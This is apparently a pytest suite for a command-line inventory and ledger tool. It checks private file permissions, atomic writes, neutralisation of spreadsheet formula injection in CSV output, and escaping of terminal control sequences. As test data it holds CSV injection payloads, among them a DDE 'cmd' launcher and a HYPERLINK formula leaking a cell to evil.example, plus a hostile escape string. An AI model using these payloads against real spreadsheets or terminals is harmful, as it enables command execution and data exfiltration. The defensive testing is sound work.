"""What stuffctl writes is private, safe to open in a spreadsheet, and harmless on a
terminal (issue #19, items 8-10)."""

from __future__ import annotations

import ast
import csv
import io
import os
import re
import select
import signal
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import stuffctl
from stuffctl import paths, render
from tests.reliability.conftest import child_env, stuffctl_argv
from tests.reliability.test_hostile_input import RAW_CONTROL

# -- item 8: every file private, through one atomic writer ------------------------------

# Each writes a file into the out folder ({out}) or the home; run in this order.
FILE_WRITING_COMMANDS = [
    ("asset", "add", "Lamp"),
    ("asset", "attach", "1", "{receipt}"),
    ("remind", "add", "Descale", "--on", "2030-01-15"),
    ("config", "set", "currency", "USD"),
    ("export", "--out", "{out}/export.json"),
    ("export", "--with-files", "--out", "{out}/export.zip"),
    ("share", "--asset", "1", "--out", "{out}/share.json"),
    ("share", "--asset", "1", "--with-files", "--out", "{out}/share.zip"),
    ("remind", "ics", "--out", "{out}/reminders.ics"),
    ("bench", "export", "--out", "{out}/bench.json"),
    ("backup",),
]


def _modes(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): oct(stat.S_IMODE(p.stat().st_mode))
            for p in sorted(root.rglob("*"))}


@pytest.mark.parametrize("umask", [0o000, 0o022], ids=["umask-000", "umask-022"])
def test_every_file_stuffctl_writes_is_private_whatever_the_umask(tmp_path, umask):
    home, out = tmp_path / "home", tmp_path / "out"
    out.mkdir()
    receipt = tmp_path / "receipt.pdf"
    receipt.write_bytes(b"%PDF receipt")
    env = child_env(STUFFCTL_HOME=str(home))
    for args in FILE_WRITING_COMMANDS:
        argv = stuffctl_argv(*(a.format(out=out, receipt=receipt) for a in args))
        done = subprocess.run(argv, capture_output=True, text=True, env=env, umask=umask,
                              stdin=subprocess.DEVNULL, timeout=120)
        assert done.returncode == 0, (args, done.stderr)
    imported = tmp_path / "imported"  # files an import stores, too
    done = subprocess.run(stuffctl_argv("import", str(out / "export.zip")), umask=umask,
                          env=child_env(STUFFCTL_HOME=str(imported)), capture_output=True,
                          text=True, stdin=subprocess.DEVNULL, timeout=120)
    assert done.returncode == 0, done.stderr
    written = {**{f"out/{k}": v for k, v in _modes(out).items()},
               **{f"home/{k}": v for k, v in _modes(home).items()},
               **{f"imported/{k}": v for k, v in _modes(imported).items()}}
    assert {"out/export.zip", "out/reminders.ics", "home/config.toml"} <= set(written)
    assert any(k.startswith("home/attachments/") for k in written)
    assert any(k.startswith("imported/attachments/") for k in written)
    loose = {k: v for k, v in written.items()
             if v != ("0o700" if (tmp_path / k).is_dir() else "0o600")}
    assert loose == {}


def test_atomic_file_makes_its_temporary_file_private_and_named_for_db_check(tmp_path):
    target = tmp_path / "export.json"
    old = os.umask(0)
    try:
        with paths.atomic_file(target) as fh:
            fh.write(b"partial")
            (tmp,) = [p for p in tmp_path.iterdir()]
            assert stat.S_IMODE(tmp.stat().st_mode) == 0o600
            assert paths.TEMP_NAME.fullmatch(tmp.name)[1] == "export.json"
            assert not target.exists()
    finally:
        os.umask(old)
    assert [p.name for p in tmp_path.iterdir()] == ["export.json"]
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_a_failed_write_leaves_the_old_file_and_no_temporary_file(tmp_path):
    target = tmp_path / "reminders.ics"
    target.write_bytes(b"old")
    with pytest.raises(KeyboardInterrupt), paths.atomic_file(target) as fh:
        fh.write(b"half")
        raise KeyboardInterrupt
    assert [p.name for p in tmp_path.iterdir()] == ["reminders.ics"]
    assert target.read_bytes() == b"old"


def test_a_link_planted_at_the_temporary_name_is_not_followed(tmp_path):
    victim = tmp_path / "victim"
    victim.write_bytes(b"precious")
    target = tmp_path / "export.json"
    paths.temp_for(target).symlink_to(victim)
    paths.write_atomic(target, b"{}")
    assert victim.read_bytes() == b"precious"
    assert target.read_bytes() == b"{}" and not target.is_symlink()


KILLED_WRITE = """
import os, signal, sys
from pathlib import Path
from stuffctl import paths
with paths.atomic_file(Path(sys.argv[1])) as fh:
    fh.write(b"x" * 100_000)
    fh.flush()
    os.kill(os.getpid(), signal.SIGKILL)
"""


def test_a_killed_write_leaves_only_a_private_temporary_file_the_next_write_removes(tmp_path):
    target = tmp_path / "export.json"
    done = subprocess.run([sys.executable, "-c", KILLED_WRITE, str(target)], umask=0,
                          env=child_env(), capture_output=True, timeout=60)
    assert done.returncode == -signal.SIGKILL, done.stderr
    (left,) = list(tmp_path.iterdir())
    assert paths.TEMP_NAME.fullmatch(left.name)[1] == "export.json"
    assert stat.S_IMODE(left.stat().st_mode) == 0o600
    paths.write_atomic(target, b"{}")
    assert [p.name for p in tmp_path.iterdir()] == ["export.json"]


def test_a_temporary_file_of_a_running_process_or_another_file_is_left_alone(tmp_path):
    mine = tmp_path / f".export.json.{os.getppid()}.tmp"  # a live process: pytest's parent
    other = tmp_path / ".other.json.1.tmp"
    for p in (mine, other):
        p.write_bytes(b"busy")
    paths.write_atomic(tmp_path / "export.json", b"{}")
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["export.json", mine.name, other.name])


# Calls that create or rewrite a file; only paths.py may make them (store/generate.py and
# store/migrate.py are developer tools that write the source tree). SQLite's own files
# (the database, backups) are made private by paths.touch_private before SQLite opens them.
ALLOWED_WRITERS = {"paths.py", "generate.py", "migrate.py"}
# Calls that write inside a file the atomic writer made, not a file of their own: the
# export's document written as a member of the zip ``paths.atomic_file`` holds open.
INSIDE_ATOMIC_FILE = {("services/data/bundle.py", "zf.open")}


def _writes_a_file(node: ast.Call) -> str | None:
    func = node.func
    name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
    owner = getattr(func.value, "id", "") if isinstance(func, ast.Attribute) else ""
    if name in ("write_text", "write_bytes", "mkstemp", "NamedTemporaryFile") or (
            owner == "shutil" and name in ("copy", "copy2", "copyfile", "copytree", "move")):
        return name
    if name != "open":
        return None
    if "O_CREAT" in ast.dump(node):
        return "os.open(O_CREAT)"
    # Path.open(mode) and open(file, mode): a mode that makes or truncates a file
    modes = [a.value for a in node.args[:2] if isinstance(a, ast.Constant)]
    modes += [k.value.value for k in node.keywords
              if k.arg == "mode" and isinstance(k.value, ast.Constant)]
    if any(isinstance(m, str) and set(m) & set("wax") for m in modes):
        return f"open({modes[-1]!r})"
    return None


def test_every_file_stuffctl_writes_goes_through_the_one_atomic_writer():
    root = Path(stuffctl.__file__).parent
    found = []
    for path in sorted(root.rglob("*.py")):
        if path.name in ALLOWED_WRITERS and path.parent.name in ("stuffctl", "store"):
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and (what := _writes_a_file(node)):
                if (path.relative_to(root).as_posix(), ast.unparse(node.func)) in \
                        INSIDE_ATOMIC_FILE:
                    continue
                found.append(f"{path.relative_to(root)}:{node.lineno} {what}")
    assert found == []
    bundle = (root / "services" / "data" / "bundle.py").read_text(encoding="utf-8")
    assert "with paths.atomic_file(out) as fh:" in bundle and "zipfile.ZipFile(target" in bundle


# -- item 9: CSV formula injection -------------------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1,"click")',
            "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3+cmd|' /C calc'!A0"]


@pytest.mark.parametrize(("cell", "shown"), [
    *[(f, "'" + f) for f in FORMULAS],
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("'=1+1", "''=1+1"), ("''@x", "'''@x"),
    ("-12.50", "-12.50"), ("+3", "+3"), ("-0", "-0"), ("+50.0%", "+50.0%"),
    ("-12.50 EUR", "'-12.50 EUR"), ("-1e5", "'-1e5"), ("+5%%", "'+5%%"),
    ("-", "'-"), ("- refund", "'- refund"), ("'quoted", "'quoted"), ("a=b", "a=b"), ("", ""),
])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_but_a_number_stays_a_number(cell, shown):
    assert render.spreadsheet_cell(cell) == shown


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _hostile_ledger(cli: Any) -> None:
    for i, f in enumerate(FORMULAS):
        cli.ok("tx", "add", "--on", "2026-01-15", "--memo", f, "--category", f, "--",
               f"-{i + 1}2.50", f)
        cli.ok("asset", "add", "--category", f, "--notes", f, "--tag", f, "--", f)
        cli.ok("person", "add", "--", f)


@pytest.mark.parametrize("args", [
    ("tx", "export"), ("tx", "list", "--format", "csv"), ("asset", "list", "--format", "csv"),
    ("person", "list", "--format", "csv"),
    ("report", "spend", "--format", "csv", "--by", "payee", "--to", "2026-01-31"),
    ("find", "calc", "--format", "csv"),
])
def test_csv_output_neutralises_formulas_and_raw_keeps_them(cli, args):
    _hostile_ledger(cli)
    cells = [c for row in _csv(cli.ok(*args).stdout)[1:] for c in row]
    assert [c for c in cells if c[:1] and c[:1] in "=+-@\t\r"
            and not re.fullmatch(r"[+-][0-9]+(\.[0-9]+)?%?", c)] == []
    assert {"'" + f for f in FORMULAS} & set(cells)
    raw = [c for row in _csv(cli.ok(*args, "--raw").stdout)[1:] for c in row]
    assert set(FORMULAS) & set(raw)
    assert len(raw) == len(cells)


def test_negative_amounts_stay_numbers_in_tx_export(cli):
    _hostile_ledger(cli)
    amounts = [row[3] for row in _csv(cli.ok("tx", "export").stdout)[1:]]
    assert amounts == ["-12.50", "-22.50", "-32.50", "-42.50", "-52.50"]


def test_raw_lasts_one_command_only(cli):
    _hostile_ledger(cli)
    cli.ok("asset", "list", "--format", "csv", "--raw")
    assert "'" + FORMULAS[0] in {c for r in _csv(cli.ok("tx", "export").stdout) for c in r}


def test_tx_export_reads_back_exactly_through_tx_import(cli, home, tmp_path, monkeypatch,
                                                        backend, request):
    _hostile_ledger(cli)
    cli.ok("tx", "add", "--on", "2026-01-16", "--memo", "'=quoted already", "--", "-1", "'@x")
    before = [{k: t[k] for k in ("on", "amount", "payee", "category", "memo")}
              for t in cli.json("tx", "list", "--sort", "id")]
    exported = tmp_path / "ledger.csv"
    exported.write_text(cli.ok("tx", "export").stdout)
    monkeypatch.setenv("STUFFCTL_HOME", str(tmp_path / "elsewhere"))
    if backend == "postgres":  # the other home's own server database
        other = request.getfixturevalue("postgres_databases").fresh()
        request.addfinalizer(other.drop)
        monkeypatch.setenv("STUFFCTL_DB", other.url)
    cli.ok("tx", "import", str(exported))
    after = [{k: t[k] for k in ("on", "amount", "payee", "category", "memo")}
             for t in cli.json("tx", "list", "--sort", "id")]
    assert after == before


@given(st.text(alphabet="'=+-@\t\r0123456789.a ", max_size=8))
def test_the_quote_tx_export_adds_is_the_one_tx_import_takes_off(text):
    from stuffctl.services.tx.import_csv import _unquoted

    assert _unquoted([render.spreadsheet_cell(text)]) == [text]


def _writes_csv(command: Any) -> bool:
    """``--csv``, or a ``--format`` whose help offers csv."""
    return any("--csv" in p.opts or ("--format" in p.opts and "csv" in (p.help or ""))
               for p in command.params)


def test_every_command_that_can_write_csv_takes_raw():
    from tests.reliability.test_fuzz import leaf_commands

    writers = {" ".join(words): c for words, c in leaf_commands()
               if _writes_csv(c) and words[-1] != "import"}  # an import's --format reads
    assert {"tx export", "tx list", "asset list", "report spend", "task next"} <= set(writers)
    assert [w for w, c in writers.items()
            if not any("--raw" in p.opts for p in c.params)] == []


# -- item 10: terminal escapes -----------------------------------------------------------

ESCAPES = "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ \x1b[2J bell\x07 \u202erev \u009b31m"


def _on_a_terminal(*args: str, env: dict[str, str]) -> str:
    """What ``stuffctl ARGS`` prints with a terminal as its stdout."""
    import pty

    leader, follower = pty.openpty()
    proc = subprocess.Popen(stuffctl_argv(*args), stdout=follower, stderr=subprocess.PIPE,
                            stdin=subprocess.DEVNULL, env=env)
    os.close(follower)
    chunks = []
    while True:
        ready, _, _ = select.select([leader], [], [], 60)
        if not ready:
            break
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the child closed the terminal (EIO on Linux)
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    assert proc.wait(timeout=60) == 0, proc.stderr.read() if proc.stderr else ""
    return b"".join(chunks).decode("utf-8").replace("\r\n", "\n")


def test_machine_output_shows_controls_escaped_on_a_terminal_and_exact_in_a_pipe(home):
    env = {k: v for k, v in child_env().items() if k != "_TYPER_FORCE_DISABLE_TERMINAL"}
    for args in (("tx", "add", "--on", "2026-01-15", "--memo", ESCAPES, "--", "-3", ESCAPES),
                 ("asset", "add", ESCAPES), ("remind", "add", ESCAPES, "--on", "2030-01-15")):
        done = subprocess.run(stuffctl_argv(*args), env=env, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
    for args in (("tx", "export"), ("asset", "list", "--format", "csv"), ("remind", "ics"),
                 ("tx", "export", "--raw")):
        ics = args[1] == "ics"  # the calendar has no ESC or BEL to show (see below)
        shown = _on_a_terminal(*args, env=env).replace("\n ", "")  # unfolded
        assert not RAW_CONTROL.search(shown), (args, shown)
        escaped = ["\\u202erev", "\\x9b31m"] + ([] if ics else ["\\x1b[2J", "bell\\x07"])
        assert all(e in shown for e in escaped), (args, shown)
        piped = subprocess.run(stuffctl_argv(*args), env=env, capture_output=True).stdout
        kept = "[2J bell \u202erev" if ics else "\x1b[2J bell\x07 \u202erev"
        assert f"{kept} \u009b31m".encode() in piped.replace(b"\r\n ", b""), (args, piped)


def test_the_calendar_holds_no_control_character_rfc_5545_forbids(cli, tmp_path):
    from icalendar import Calendar

    cli.ok("remind", "add", f"Descale {ESCAPES}\x7f\x0b\x0c end", "--on", "2030-01-15")
    out = tmp_path / "reminders.ics"
    cli.ok("remind", "ics", "--out", str(out))
    data = out.read_bytes()
    assert not re.search(rb"[\x00-\x08\x0a-\x1f\x7f]", data.replace(b"\r\n", b""))
    (event,) = Calendar.from_ical(data).walk("VEVENT")
    assert str(event["summary"]) == ("Descale ]8;;http://evil.example\\link]8;;\\ [2J "
                                     "bell \u202erev \u009b31m end")
